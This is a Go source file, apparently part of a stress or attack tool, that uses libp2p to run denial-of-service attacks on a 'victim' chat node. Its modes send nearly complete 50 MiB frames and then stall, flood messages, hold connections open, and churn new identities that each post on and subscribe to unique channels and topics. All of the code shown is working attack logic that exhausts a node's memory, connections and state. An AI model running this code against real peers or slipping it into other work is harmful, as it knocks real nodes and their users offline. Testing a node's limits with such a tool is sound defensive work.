package main

import (
	"encoding/binary"
	"fmt"
	"io"
	"time"

	"github.com/libp2p/go-libp2p"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
)

const (
	// frameSize is the largest that a node takes unless its settings say otherwise.
	frameSize   = 50 << 20
	messageSize = 32 << 10
	newPeersAt  = 4
)

// channel is one that a host may send to the victim on.
func (a *attack) channel(h host.Host, suffix string) string {
	return fmt.Sprintf("%s::dm:%s-%s", h.ID(), a.target.ID, suffix)
}

// head is the beginning of a frame up to its payload.
func head(channel string, payload int) []byte {
	to := binary.BigEndian.AppendUint32(nil, uint32(1+len(channel)+payload))
	to = append(to, byte(len(channel)))
	return append(to, channel...)
}

func frame(channel string, payload []byte) []byte {
	return append(head(channel, len(payload)), payload...)
}

// unfinished: each identity sends all but the last byte of a frame of 50 MiB, and then nothing.
func (a *attack) unfinished() {
	payload := make([]byte, 1<<20)
	a.each(func(h host.Host) {
		str := a.stream(h, chatProtocol)
		if str == nil {
			return
		}
		begin := head(a.channel(h, "unfinished"), 0)
		left := frameSize - len(begin) + 4
		begin = head(a.channel(h, "unfinished"), left)
		if !a.write(str, begin) {
			return
		}
		for left--; left > 0; left -= min(left, len(payload)) {
			if !a.write(str, payload[:min(left, len(payload))]) {
				return
			}
		}
		a.count("frames but for a byte", 1)
		// A read returns when the victim gives the stream up.
		_, _ = io.Copy(io.Discard, str)
		a.count("frames given up", 1)
	})
}

// strangers: each identity sends messages for as long as it is let.
func (a *attack) strangers() {
	payload := make([]byte, messageSize)
	a.each(func(h host.Host) {
		str := a.stream(h, chatProtocol)
		if str == nil {
			return
		}
		message := frame(a.channel(h, "stranger"), payload)
		for a.write(str, message) {
			a.count("messages", 1)
		}
	})
}

// connections: each identity connects and stays.
func (a *attack) connections() {
	a.each(func(h host.Host) {
		for len(h.Network().Conns()) > 0 && a.ctx.Err() == nil {
			a.rest()
		}
		a.count("connections closed", 1)
	})
}

// shortLived: new identities come, send one message on a channel of their own, subscribe to a topic of their own, and go.
func (a *attack) shortLived() {
	a.Peers = newPeersAt
	a.each(func(h host.Host) {
		if str := a.stream(h, chatProtocol); str != nil {
			a.write(str, frame(a.channel(h, h.ID().ShortString()[8:14]), []byte("hello")))
			_ = str.CloseWrite()
		}
		if str := a.stream(h, topicProtocol); str != nil {
			a.write(str, subscriptions(a.Topic+h.ID().String()))
		}
		a.rest()
		a.count("peers", 1)
	})
}

// visited: new identities listen, each until the victim has sent it a message or has not come.
func (a *attack) visited() {
	for a.ctx.Err() == nil {
		h := identity(libp2p.ListenAddrStrings("/ip4/127.0.0.1/tcp/0"))
		came := make(chan struct{}, 1)
		h.SetStreamHandler(chatProtocol, func(str network.Stream) {
			if n, _ := str.Read(make([]byte, 1)); n > 0 {
				select {
				case came <- struct{}{}:
				default:
				}
			}
			_, _ = io.Copy(io.Discard, str)
		})
		addresses, err := peer.AddrInfoToP2pAddrs(host.InfoFromHost(h))
		check(err)
		print(map[string]any{"visit": addresses})
		select {
		case <-came:
			a.count("peers", 1)
		case <-time.After(5 * time.Second):
			a.count("not visited", 1)
		case <-a.ctx.Done():
		}
		_ = h.Close()
	}
}
